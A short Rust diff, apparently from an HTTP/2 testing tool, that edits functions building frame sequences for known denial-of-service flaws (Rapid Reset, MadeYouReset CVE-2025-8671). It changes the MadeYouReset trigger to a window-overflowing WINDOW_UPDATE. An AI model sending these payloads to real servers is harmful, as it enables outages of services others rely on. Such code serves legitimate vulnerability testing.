@@ -26,9 +26,9 @@ pub(crate) fn rapid_reset(n: u32, path: &str) -> Vec<u8> {
     [request(2 * n + 1, path), reset].concat()
 }
 
-/// CVE-2025-8671: the same, but the server takes it back, because a window may not grow by nothing.
+/// CVE-2025-8671: the same, but the server takes it back, because a window may not grow beyond 2^31-1.
 pub(crate) fn made_you_reset(n: u32, path: &str) -> Vec<u8> {
-    [request(2 * n + 1, path), frame(WINDOW_UPDATE, 0, 2 * n + 1, &[0; 4])].concat()
+    [request(2 * n + 1, path), frame(WINDOW_UPDATE, 0, 2 * n + 1, &[0x7f, 0xff, 0xff, 0xff])].concat()
 }
 
 /// CVE-2024-27316: literal fields without indexing, in frames none of which is the last.
